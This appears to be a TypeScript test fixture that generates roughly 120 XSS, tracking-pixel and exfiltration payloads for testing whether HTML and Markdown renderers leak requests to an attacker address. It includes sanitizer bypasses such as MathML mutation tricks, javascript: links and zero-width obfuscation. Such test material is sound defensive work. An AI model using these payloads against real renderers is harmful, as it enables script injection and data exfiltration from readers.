/** One way to make a reader's browser ask the attacker for something. */
export interface Vector {
  id: string;
  /** As it stands in a message or an article. */
  text: string;
  /** As a careless renderer would put it into a page. */
  html: string;
  /** It leaves the page, or wants a press or a new base: it is tried alone. */
  alone: boolean;
  /** It runs a script where it works; each script counts itself in `window.__hit`. */
  script: boolean;
}

/** Where the attacker listens: a path of its own for each vector, and for those that only connect a port of its own. */
export interface Addresses {
  path: (id: string) => string;
  port: (id: string) => string;
}

type Written = string | { text: string; html: string };
type Row = [what: string, write: (at: string) => Written, how?: "alone" | "connects"];

const js = (at: string) => `window.__hit=(window.__hit||0)+1;new Image().src='${at}'`;
const zeroWidth = (text: string) => [...text].join("\u200b");

const loads: Row[] = [
  ["img", (a) => `<img src="${a}">`],
  ["img without quotes", (a) => `<img src=${a} >`],
  ["img in odd case", (a) => `<ImG SrC='${a}' AlT=x>`],
  ["img with a slash for a space", (a) => `<img/src="${a}"/>`],
  ["image, the parser's synonym", (a) => `<image src="${a}">`],
  ["img without a protocol", (a) => `<img src="${a.replace("http:", "")}">`],
  ["img of one pixel", (a) => `<img width=1 height=1 style="opacity:.01" src="${a}">`],
  ["img with a stop in its address", (a) => `<img src="${a.replace("http", "ht\ntp")}">`],
  ["img with an entity in its address", (a) => `<img src="${a.replace("http", "&#104;ttp")}">`],
  ["srcset", (a) => `<img srcset="${a} 1x, ${a}?2 2x">`],
  ["picture", (a) => `<picture><source srcset="${a}"><img alt="x"></picture>`],
  ["video poster", (a) => `<video poster="${a}" controls></video>`],
  ["video", (a) => `<video src="${a}.mp4" autoplay muted></video>`],
  ["video source", (a) => `<video autoplay muted><source src="${a}.webm" type="video/webm"></video>`],
  ["video track", (a) => `<video><track default kind="captions" src="${a}.vtt"></video><video src="${a}.mp4"></video>`],
  ["audio", (a) => `<audio src="${a}.mp3" autoplay preload="auto"></audio>`],
  ["audio source", (a) => `<audio autoplay><source src="${a}.ogg"></audio>`],
  ["style attribute, background", (a) => `<div style="background:url(${a})">x</div>`],
  ["style attribute, background-image", (a) => `<div style="background-image:url('${a}')">x</div>`],
  ["style attribute, image-set", (a) => `<div style="background-image:image-set('${a}' 1x)">x</div>`],
  ["style attribute, list-style", (a) => `<ul><li style="list-style:url(${a})">x</li></ul>`],
  ["style attribute, border-image", (a) => `<div style="border:9px solid;border-image:url(${a}) 3">x</div>`],
  ["style attribute, mask", (a) => `<div style="-webkit-mask-image:url(${a});mask-image:url(${a})">x</div>`],
  ["style attribute, content", (a) => `<div style="content:url(${a})">x</div>`],
  ["style attribute, shape-outside", (a) => `<div style="float:left;shape-outside:url(${a})">x</div>`],
  ["style attribute, filter", (a) => `<div style="filter:url(${a}.svg#f)">x</div>`],
  ["style attribute, a variable", (a) => `<div style="--u:url(${a});background:var(--u)">x</div>`],
  ["style, url", (a) => `<style>.e1{background:url(${a})}</style><div class="e1">x</div>`],
  ["style, @import", (a) => `<style>@import url("${a}.css");</style>`],
  ["style, @import without url", (a) => `<style>@import "${a}.css";</style>`],
  ["style, @font-face", (a) => `<style>@font-face{font-family:e2;src:url(${a}.woff)}.e2{font-family:e2}</style><p class="e2">x</p>`],
  ["style, list-style", (a) => `<style>.e3{list-style:url(${a})}</style><ul><li class="e3">x</li></ul>`],
  ["style, cursor", (a) => `<style>.e4{cursor:url(${a}),auto}</style><p class="e4">x</p>`],
  ["style, an attribute's value", (a) => `<style>input[value^="x"]{background:url(${a})}</style><input value="xyz">`],
  ["svg image", (a) => `<svg><image href="${a}" width="9" height="9"/></svg>`],
  ["svg image, xlink", (a) => `<svg><image xlink:href="${a}" width="9" height="9"/></svg>`],
  ["svg use", (a) => `<svg><use href="${a}.svg#a"/></svg>`],
  [
    "svg feImage",
    (a) => `<svg width="9" height="9"><filter id="fe"><feImage href="${a}"/></filter><rect filter="url(#fe)" width="9" height="9"/></svg>`,
  ],
  ["svg foreignObject", (a) => `<svg><foreignObject width="9" height="9"><img src="${a}"></foreignObject></svg>`],
  ["svg style", (a) => `<svg><style>@import "${a}.css";</style></svg>`],
  ["link stylesheet", (a) => `<link rel="stylesheet" href="${a}.css">`],
  ["link icon", (a) => `<link rel="icon" href="${a}.ico">`],
  ["link prefetch", (a) => `<link rel="prefetch" href="${a}">`],
  ["link preload", (a) => `<link rel="preload" as="image" href="${a}">`],
  ["link preload, fetch", (a) => `<link rel="preload" as="fetch" crossorigin href="${a}">`],
  ["link modulepreload", (a) => `<link rel="modulepreload" href="${a}.js">`],
  ["link manifest", (a) => `<link rel="manifest" href="${a}.json">`],
  ["link preconnect", (a) => `<link rel="preconnect" href="${a}">`, "connects"],
  ["link preconnect, crossorigin", (a) => `<link rel="preconnect" crossorigin href="${a}">`, "connects"],
  ["iframe", (a) => `<iframe src="${a}"></iframe>`],
  ["iframe srcdoc", (a) => `<iframe srcdoc="<img src='${a}'>"></iframe>`],
  ["iframe of data", (a) => `<iframe src="data:text/html,<img src='${a}'>"></iframe>`],
  ["frameset", (a) => `<frameset><frame src="${a}"></frameset><iframe name="f" src="${a}"></iframe>`],
  ["object", (a) => `<object data="${a}"></object>`],
  ["object of svg", (a) => `<object type="image/svg+xml" data="${a}.svg"></object>`],
  ["embed", (a) => `<embed src="${a}">`],
  ["input image", (a) => `<input type="image" src="${a}">`],
  ["table background", (a) => `<table background="${a}"><tr><td>x</td></tr></table>`],
  ["cell background", (a) => `<table><tr><td background="${a}">x</td></tr></table>`],
  ["body background", (a) => `<body background="${a}"><table background="${a}"><tr><td>x</td></tr></table>`],
  ["template with a shadow", (a) => `<div><template shadowrootmode="open"><img src="${a}"></template></div><img src="${a}">`],
  ["noscript", (a) => `<noscript><p title="</noscript><img src=${a}>">x</p></noscript>`],
  ["a comment that ends early", (a) => `<!--><img src="${a}">-->`],
  ["MathML that leaves its language", (a) => `<math><mtext><table><mglyph><style><img src="${a}"></style></mglyph></table></mtext></math>`],
  ["MathML annotation", (a) => `<math><annotation-xml encoding="text/html"><img src="${a}"></annotation-xml></math>`],
  ["an image behind a quoted mail", (a) => `<blockquote type="cite">Hi<img src="${a}"></blockquote>`],
  ["an image that can't be seen", (a) => `<div style="display:none"><img src="${a}"></div>`],
  ["an image in a signature", (a) => `<div class="gmail_signature"><img src="${a}"></div>`],
];

const scripts: Row[] = [
  ["script", (a) => `<script>${js(a)}</script>`],
  ["script src", (a) => `<script src="${a}.js"></script>`],
  ["module", (a) => `<script type="module">${js(a)}</script>`],
  ["import of data", (a) => `<script type="module">import "data:text/javascript,${encodeURIComponent(js(a))}"</script>`],
  ["svg script", (a) => `<svg><script>${js(a)}</script></svg>`],
  ["onerror", (a) => `<img src="x:" onerror="${js(a)}">`],
  ["onerror in odd case", (a) => `<IMG SRC=x: OnErRoR="${js(a)}">`],
  ["onload", (a) => `<svg onload="${js(a)}"></svg>`],
  ["onload of a style", (a) => `<style onload="${js(a)}"></style>`],
  ["onload of a frame", (a) => `<iframe onload="${js(a)}"></iframe>`],
  ["ontoggle", (a) => `<details open ontoggle="${js(a)}"><summary>x</summary>y</details>`],
  ["onfocus", (a) => `<input autofocus onfocus="${js(a)}">`],
  ["onmouseover", (a) => `<b onmouseover="${js(a)}">x</b>`],
  ["onclick", (a) => `<button onclick="${js(a)}">x</button>`],
  ["onanimationstart", (a) => `<style>@keyframes e5{}</style><b style="animation:e5 1s" onanimationstart="${js(a)}">x</b>`],
  ["svg animate", (a) => `<svg><animate attributeName="x" dur="1s" onbegin="${js(a)}"/></svg>`],
  ["onerror of a video", (a) => `<video><source onerror="${js(a)}"></video>`],
  ["srcdoc script", (a) => `<iframe srcdoc="<script>parent.__hit=(parent.__hit||0)+1;new Image().src='${a}'</script>"></iframe>`],
  ["out of an attribute", (a) => `"><img src="x:" onerror="${js(a)}">`],
  ["out of a title", (a) => `</title></textarea></style></script><img src="x:" onerror="${js(a)}">`],
  ["out of a string", (a) => `';${js(a)};'<img src="x:" onerror="${js(a)}">`],
  ["nested in itself", (a) => `<scr<script>ipt>${js(a)}</scr</script>ipt><svg/onload="${js(a)}">`],
  ["an element of their own", (a) => `<x-e contenteditable onfocus="${js(a)}" autofocus tabindex=1>x</x-e>`],
  ["base and a script", (a) => `<base href="${a}/"><script src="e.js"></script>`, "alone"],
  ["javascript: link", (a) => `<a href="javascript:${js(a)}">x</a>`, "alone"],
  ["javascript: link with a tab", (a) => `<a href="java&#9;script:${js(a)}">x</a>`, "alone"],
  ["javascript: frame", (a) => `<iframe src="javascript:parent.__hit=(parent.__hit||0)+1;new Image().src='${a}'"></iframe>`, "alone"],
  ["javascript: form", (a) => `<form action="javascript:${js(a)}"><button>x</button></form>`, "alone"],
  ["svg link", (a) => `<svg><a xlink:href="javascript:${js(a)}"><text x="9" y="9">x</text></a></svg>`, "alone"],
  ["MathML link", (a) => `<math><mtext href="javascript:${js(a)}">x</mtext></math><svg onload="${js(a)}"/>`, "alone"],
];

const leaves: Row[] = [
  ["meta refresh", (a) => `<meta http-equiv="refresh" content="0;url=${a}">`, "alone"],
  ["base and an image", (a) => `<base href="${a}/"><img src="e.png">`, "alone"],
  ["form", (a) => `<form action="${a}"><input name="q" value="x"><button>x</button></form>`, "alone"],
  ["form by post", (a) => `<form action="${a}" method="post"><input name="q" value="x"><button>x</button></form>`, "alone"],
  ["button formaction", (a) => `<form><button formaction="${a}">x</button></form>`, "alone"],
  ["link", (a) => `<a href="${a}">x</a>`, "alone"],
  ["link with a ping", (a) => `<a href="#" ping="${a}">x</a>`, "alone"],
  ["area", (a) => `<map name="m"><area shape="default" href="${a}"></map>`, "alone"],
  ["data: link", (a) => `<a href="data:text/html,<img src='${a}'>">x</a><img src="${a}">`, "alone"],
];

const shown = (a: string) => `<img src="${a}" alt="x">`;
const markdowns: Row[] = [
  ["Markdown image", (a) => ({ text: `![x](${a})`, html: shown(a) })],
  ["Markdown image with a title", (a) => ({ text: `![x](<${a}> "t")`, html: shown(a) })],
  ["Markdown image by reference", (a) => ({ text: `![x][r]\n\n[r]: ${a}`, html: shown(a) })],
  ["Markdown image by its own name", (a) => ({ text: `![x]\n\n[x]: ${a} "t"`, html: shown(a) })],
  ["Markdown image in a link", (a) => ({ text: `[![x](${a})](https://help.example/)`, html: shown(a) })],
  ["Markdown image in a table", (a) => ({ text: `| a | b |\n|---|---|\n| ![x](${a}) | 1 |`, html: shown(a) })],
  ["Markdown image in a list in a quote", (a) => ({ text: `> - **![x](${a})**`, html: shown(a) })],
  ["HTML in Markdown", (a) => ({ text: `Hello **you**\n\n<div>\n\n*a* <img src="${a}">\n\n</div>`, html: shown(a) })],
  ["HTML in Markdown in code", (a) => ({ text: `\`\`\`html\n<img src="${a}">\n\`\`\`\n<img src="${a}">`, html: shown(a) })],
  ["Markdown image with zero-width letters", (a) => ({ text: `!\u200b[x](${zeroWidth(a)}) ![x\u200b](${a})`, html: shown(a) })],
  ["HTML with zero-width letters", (a) => ({ text: `<i\u200bmg src="${a}"><img\u200b src="${a}"><img src="${a}">`, html: shown(a) })],
  ["HTML written in entities", (a) => ({ text: `&lt;img src="${a}"&gt; &amp;lt;img src=${a}&amp;gt;`, html: shown(a) })],
  ["autolink", (a) => ({ text: `<${a}>`, html: `<a href="${a}">${a}</a>` }), "alone"],
  ["bare address", (a) => ({ text: `See ${a} for more.`, html: `<a href="${a}">${a}</a>` }), "alone"],
  ["Markdown link with a title", (a) => ({ text: `[x](${a} "t")`, html: `<a href="${a}" title="t">x</a>` }), "alone"],
  ["Markdown link by reference", (a) => ({ text: `[x][r]\n\n[r]: ${a}`, html: `<a href="${a}">x</a>` }), "alone"],
  ["Markdown link to a script", (a) => ({ text: `[x](javascript:${js(a)})`, html: `<a href="javascript:${js(a)}">x</a>` }), "alone"],
];

/** Every vector, aimed at the attacker. */
export function vectors(at: Addresses): (Vector & { what: string })[] {
  return [...loads, ...scripts, ...leaves, ...markdowns].map(([what, write, how], i) => {
    const id = `v${i + 1}x`;
    const written = write(how === "connects" ? at.port(id) : at.path(id));
    const { text, html } = typeof written === "string" ? { text: written, html: written } : written;
    return { id, what, text, html, alone: how === "alone", script: /__hit|<script src/.test(html) };
  });
}
